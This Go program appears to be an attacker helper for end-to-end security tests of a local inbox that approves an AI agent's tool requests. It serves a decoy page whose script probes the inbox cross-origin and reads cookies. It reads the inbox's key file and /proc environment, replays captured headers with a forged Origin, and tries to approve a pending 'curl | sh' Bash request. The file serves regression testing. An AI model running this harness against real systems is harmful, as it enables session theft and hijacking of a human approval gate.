// Command inboxattacker is another local user attacking the inbox page in
// the end-to-end tests (e2e/inbox_attack_e2e_test.go), run under another
// uid. It serves a page on another port of 127.0.0.1 that the person's
// browser is made to load, records every request header the browser sends
// it, and has the page's script probe the inbox across origins. Then, on
// "attack" from stdin, it tries with whatever it got to read what waits on
// the inbox and allow a pending Bash request that pipes curl into sh: the
// way issue 29 took the inbox over with a cookie (cookies ignore ports).
//
// It prints one line per thing it saw or tried: "request ..." (a request
// it served, with its headers as JSON), "page ..." (what its page's script
// reported), "try ...", "TAKEOVER ..." when a decision went through, and
// "done".
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"
)

func main() {
	inbox := flag.String("inbox", "", "the inbox's HOST:PORT (any local user lists listening ports in /proc/net/tcp)")
	keyFile := flag.String("key-file", "", "the inbox's key file, to try to read")
	pid := flag.Int("inbox-pid", 0, "the inbox's pid, to try to read its environment and arguments")
	flag.Parse()
	a := &attacker{inbox: *inbox}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Println("fatal:", err)
		os.Exit(1)
	}
	go http.Serve(ln, a)
	a.println("listening http://" + ln.Addr().String() + "/")
	in := bufio.NewScanner(os.Stdin)
	for in.Scan() {
		if in.Text() == "attack" {
			a.attack(*keyFile, *pid)
			a.println("done")
		}
	}
}

type attacker struct {
	inbox string
	mu    sync.Mutex
	got   []http.Header // every request's headers the browser sent here
}

func (a *attacker) println(s string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	fmt.Println(strings.ReplaceAll(s, "\n", `\n`))
}

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h := r.Header.Clone()
	h.Set("Host", r.Host)
	a.mu.Lock()
	a.got = append(a.got, h)
	a.mu.Unlock()
	hj, _ := json.Marshal(h)
	a.println(fmt.Sprintf("request %s %s %s", r.Method, r.URL.Path, hj))
	switch r.URL.Path {
	case "/":
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>cat pictures</title><h1>cats</h1><img src="/pixel.gif"><script src="/probe.js"></script>`)
	case "/probe.js":
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, probe, "http://"+a.inbox)
	case "/report":
		a.println("page " + r.URL.Query().Get("what"))
	default:
		w.WriteHeader(http.StatusNoContent)
	}
}

// probe is what the attacker's page tries from the person's browser.
const probe = `(async () => {
  const inbox = %q;
  const report = (what) => fetch('/report?' + new URLSearchParams({what}));
  for (const [name, init] of [['GET /api/pending with credentials', {credentials: 'include'}],
      ['GET /api/pending no-cors', {mode: 'no-cors', credentials: 'include'}]]) {
    try {
      const r = await fetch(inbox + '/api/pending', init);
      await report(name + ': ' + r.type + ' ' + r.status + ' ' + (await r.text()).slice(0, 300));
    } catch (e) { await report(name + ': ' + e); }
  }
  try {
    const r = await fetch(inbox + '/api/hello', {method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json'}, body: JSON.stringify({client_nonce: '00'.repeat(32)})});
    await report('POST /api/hello: ' + r.status + ' ' + (await r.text()).slice(0, 300));
  } catch (e) { await report('POST /api/hello: ' + e); }
  await report('this origin\'s sessionStorage: ' + JSON.stringify(Object.assign({}, sessionStorage)));
  await report('this origin\'s document.cookie: ' + JSON.stringify(document.cookie));
  await report('probe done');
})();`

// attack tries, with every header set the browser sent, to read the
// inbox's pending requests and allow a Bash curl | sh among them.
func (a *attacker) attack(keyFile string, pid int) {
	for _, f := range []string{keyFile, fmt.Sprintf("/proc/%d/environ", pid), fmt.Sprintf("/proc/%d/cmdline", pid)} {
		if b, err := os.ReadFile(f); err != nil {
			a.println("try reading " + f + ": " + err.Error())
		} else {
			a.println(fmt.Sprintf("try reading %s: read %d bytes: %q", f, len(b), cut(string(b), 300)))
		}
	}
	a.mu.Lock()
	sets := append([]http.Header{{}}, a.got...) // nothing, then each request's headers
	a.mu.Unlock()
	csrf := map[string]bool{"": true}
	ids := map[string]bool{}
	csrfRE := regexp.MustCompile(`name="csrf-token" content="([0-9a-f]+)"`)
	idRE := regexp.MustCompile(`"id":"([0-9a-f]+)"[^}]*?"tool":"Bash"`)
	for i, h := range sets {
		if _, body := a.try(fmt.Sprintf("GET / with header set %d", i), "GET", "/", "", h, ""); body != "" {
			for _, m := range csrfRE.FindAllStringSubmatch(body, -1) {
				csrf[m[1]] = true
			}
		}
		code, body := a.try(fmt.Sprintf("GET /api/pending with header set %d", i), "GET", "/api/pending", "", h, "")
		if code == http.StatusOK && strings.Contains(body, "curl") {
			for _, m := range idRE.FindAllStringSubmatch(body, -1) {
				ids[m[1]] = true
			}
		}
	}
	// The handshake without the key: the server's proof, sent back as the
	// client's.
	_, body := a.try("POST /api/hello", "POST", "/api/hello", `{"client_nonce":"`+strings.Repeat("00", 32)+`"}`, nil, "")
	var hello struct {
		ServerNonce string `json:"server_nonce"`
		Proof       string `json:"proof"`
	}
	if json.Unmarshal([]byte(body), &hello) == nil && hello.ServerNonce != "" {
		code, body := a.try("POST /api/session with the server's own proof", "POST", "/api/session",
			fmt.Sprintf(`{"server_nonce":%q,"proof":%q}`, hello.ServerNonce, hello.Proof), nil, "")
		if code == http.StatusOK {
			var s struct {
				Session string `json:"session"`
			}
			json.Unmarshal([]byte(body), &s)
			h := http.Header{}
			h.Set("X-Inbox-Session", s.Session)
			sets = append(sets, h)
			if c, b := a.try("GET /api/pending with that session", "GET", "/api/pending", "", h, ""); c == http.StatusOK {
				for _, m := range idRE.FindAllStringSubmatch(b, -1) {
					ids[m[1]] = true
				}
			}
		}
	}
	if len(ids) == 0 {
		a.println("try: found no pending Bash request to allow")
	}
	for _, id := range sorted(ids) {
		for i, h := range sets {
			for _, tok := range sorted(csrf) {
				code, body := a.try(fmt.Sprintf("POST /api/decide allow %s with header set %d, csrf %q", id, i, cut(tok, 8)),
					"POST", "/api/decide", fmt.Sprintf(`{"id":%q,"allow":true,"message":"ok"}`, id), h, tok)
				if code == http.StatusOK && strings.Contains(body, `"allowed"`) {
					a.println("TAKEOVER allowed " + id + ": " + body)
					return
				}
			}
		}
	}
}

// try sends a request to the inbox as its own page would (its Host, its
// Origin forged, same-origin), with h's headers (a Cookie the browser
// sent, say) on top; it prints and returns the status and body.
func (a *attacker) try(what, method, path, body string, h http.Header, csrf string) (int, string) {
	req, err := http.NewRequest(method, "http://"+a.inbox+path, strings.NewReader(body))
	if err != nil {
		a.println("try " + what + ": " + err.Error())
		return 0, ""
	}
	for k, vs := range h {
		switch http.CanonicalHeaderKey(k) {
		case "Host", "Content-Length", "Connection", "Accept-Encoding":
			continue
		}
		for _, v := range vs {
			req.Header.Add(k, v)
		}
	}
	req.Header.Set("Origin", "http://"+a.inbox)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if csrf != "" {
		req.Header.Set("X-CSRF-Token", csrf)
	}
	c := &http.Client{Timeout: 5 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Do(req)
	if err != nil {
		a.println("try " + what + ": " + err.Error())
		return 0, ""
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	a.println(fmt.Sprintf("try %s: %d %s", what, resp.StatusCode, cut(strings.TrimSpace(string(b)), 200)))
	return resp.StatusCode, string(b)
}

func cut(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

func sorted(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
